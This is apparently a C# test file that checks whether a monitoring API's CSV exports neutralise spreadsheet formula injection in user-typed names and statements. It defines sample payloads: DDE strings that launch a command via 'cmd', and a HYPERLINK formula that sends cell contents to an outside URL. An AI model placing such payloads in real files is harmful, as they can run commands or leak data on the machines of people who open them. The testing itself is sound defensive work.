using System.Globalization;
using System.Net.Http.Json;
using System.Text.Json;
using CsvHelper;
using VanBinnenuit.ApiKit.Auth;
using VanBinnenuit.ReadModels;

namespace VanBinnenuit.Monitoring.Tests;

/// <summary>
/// Names and texts typed by people (communities, organisations, statements, municipalities as the
/// registry has them) reach the exports; none may reach a spreadsheet as a formula.
/// </summary>
[Collection(MonitoringCollection.Name)]
public sealed class CsvInjectionTests(InfrastructureFixture infrastructure) : IAsyncLifetime
{
    private const string Hyperlink = "=HYPERLINK(\"https://example.org/steel?d=\"&A1,\"Klik hier\")";
    private const string Dde = "+cmd|' /C calc'!A0";
    private const string At = "@SUM(1+1)*cmd|' /C calc'!A0";
    private const string Minus = "-2+3+cmd|' /C calc'!A0";
    private const string Tab = "\t=1+1";
    private static readonly DateTimeOffset Spring = new(2026, 4, 7, 17, 30, 0, TimeSpan.Zero);
    private MonitoringApiFactory _factory = null!;

    public async Task InitializeAsync()
    {
        _factory = await MonitoringApiFactory.StartAsync(infrastructure, "monitoring_csv_injection");
        await _factory.SeedAsync(db =>
        {
            // A municipality without series, so coverage gaps lists it with a community and an organisation.
            db.Set<MunicipalityReference>().Add(new MunicipalityReference { Code = "GM0344", Name = Minus, ProvinceCode = "PV26", ProvinceName = Tab });
            db.Set<CommunityReference>().Add(new CommunityReference { Id = Guid.NewGuid(), Name = Hyperlink, Active = true, MunicipalityCodes = ["GM0344"] });
            db.Set<OrganisationReference>().Add(new OrganisationReference { Id = Guid.NewGuid(), Name = "Stichting", Kind = "refugee-organisation", Active = true, MunicipalityCodes = ["GM0344"] });
            db.Set<CommunityReference>().Single(c => c.Id == MonitoringApiFactory.Community).Name = At;
            db.Set<MunicipalityReference>().Single(m => m.Code == "GM0363").ProvinceName = Tab;
        });
        using var coordinator = _factory.ClientFor(Roles.Coordinator);
        var series = await _factory.AddSeriesAsync(Guid.NewGuid(), Spring, status: "completed");
        using (var report = await Reports.PutAsync(coordinator, series, 1, Reports.Of(20)))
        {
            Assert.True(report.IsSuccessStatusCode, await report.Content.ReadAsStringAsync());
        }
        using var statement = await coordinator.PostAsJsonAsync("/v1/statements", new { code = "injection", text = Dde });
        Assert.True(statement.IsSuccessStatusCode, await statement.Content.ReadAsStringAsync());
        var id = (await statement.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetGuid();
        foreach (var moment in new[] { "before", "after" })
        {
            using var answers = await coordinator.PutAsJsonAsync($"/v1/series/{series}/attitudes/{moment}",
                new { answers = new[] { new { statementId = id, counts = moment == "before" ? new[] { 8, 6, 3, 2, 1 } : [1, 2, 3, 6, 8] } } });
            Assert.True(answers.IsSuccessStatusCode, await answers.Content.ReadAsStringAsync());
        }
    }

    public async Task DisposeAsync() => await _factory.DisposeAsync();

    [Theory]
    [InlineData("/v1/indicators/coverage-gaps.csv", new[] { Hyperlink, Minus, Tab })]
    [InlineData("/v1/indicators/breakdown.csv?by=community&per=year&period=2026", new[] { At })]
    [InlineData("/v1/indicators/breakdown.csv?by=province&per=year&period=2026", new[] { Tab })]
    [InlineData("/v1/indicators/attitudes.csv?period=2026", new[] { Dde })]
    [InlineData("/v1/reports/programme/2026.csv", new string[0])]
    public async Task No_cell_of_an_export_starts_as_a_formula_and_a_hostile_name_arrives_as_text(string export, string[] hostile)
    {
        using var coordinator = _factory.ClientFor(Roles.Coordinator);
        var cells = await CellsAsync(coordinator, export);
        Assert.NotEmpty(cells);
        foreach (var cell in cells)
        {
            Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]) && !decimal.TryParse(cell, NumberStyles.AllowLeadingSign | NumberStyles.AllowDecimalPoint, CultureInfo.InvariantCulture, out _),
                $"{export}: the cell {cell} starts as a formula.");
        }
        foreach (var name in hostile)
        {
            Assert.Contains("'" + name, cells);
        }
    }

    [Fact]
    public async Task A_negative_shift_stays_a_number_a_spreadsheet_can_add_up()
    {
        using var coordinator = _factory.ClientFor(Roles.Coordinator);
        var row = (await CellsAsync(coordinator, "/v1/indicators/attitudes.csv?period=2026", rows: true)).Skip(1).Single();
        // Answers moved from disagreeing to agreeing, so the shifts are positive; the columns still hold plain numbers.
        Assert.All(row[^2..], shift => Assert.True(decimal.TryParse(shift, NumberStyles.AllowLeadingSign | NumberStyles.AllowDecimalPoint, CultureInfo.InvariantCulture, out _), shift));
        Assert.Equal("-0.4", Apis.CsvExport.Neutralised("-0.4"));
        Assert.Equal("'-0.4+A1", Apis.CsvExport.Neutralised("-0.4+A1"));
    }

    private static async Task<List<string>> CellsAsync(HttpClient client, string export) =>
        [.. (await CellsAsync(client, export, rows: true)).SelectMany(row => row)];

    private static async Task<List<string[]>> CellsAsync(HttpClient client, string export, bool rows)
    {
        using var response = await client.GetAsync(export);
        Assert.True(response.IsSuccessStatusCode, await response.Content.ReadAsStringAsync());
        using var reader = new StringReader((await response.Content.ReadAsStringAsync()).TrimStart('\uFEFF'));
        using var csv = new CsvParser(reader, CultureInfo.InvariantCulture);
        var all = new List<string[]>();
        while (await csv.ReadAsync())
        {
            all.Add(csv.Record!);
        }
        return all;
    }
}
